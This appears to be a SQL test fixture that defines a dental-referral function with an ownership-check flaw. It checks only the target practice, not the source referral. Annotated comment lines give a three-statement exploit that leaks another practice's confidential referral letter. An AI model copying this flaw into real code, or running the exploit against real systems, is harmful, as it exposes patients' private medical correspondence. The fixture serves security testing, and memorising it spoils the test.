-- A referral is sent by copying it: the source is any referral by id, the target only must be an own
-- practice.
-- about: receive_referral, referrals
-- as: hf_dental_app
-- exploit: SET request.jwt.claims = '{"sub": "ua"}';
-- exploit: SELECT dental.receive_referral('50200000-0000-0000-0000-000000000001', 501, 1);
-- exploit: SELECT letter FROM dental.referrals;
-- shows: letter-secret
CREATE FUNCTION dental.receive_referral(p_referral uuid, p_practice bigint, p_patient int) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = dental, pg_temp AS $$
BEGIN
  IF p_practice <> ALL (dental.my_practices()) THEN
    RAISE EXCEPTION 'not your practice';
  END IF;
  INSERT INTO dental.referrals (practice_id, patient_no, letter)
    SELECT p_practice, p_patient, r.letter FROM dental.referrals r WHERE r.referral_id = p_referral;
END $$;
REVOKE ALL ON FUNCTION dental.receive_referral(uuid, bigint, int) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION dental.receive_referral(uuid, bigint, int) TO hf_dental_app;
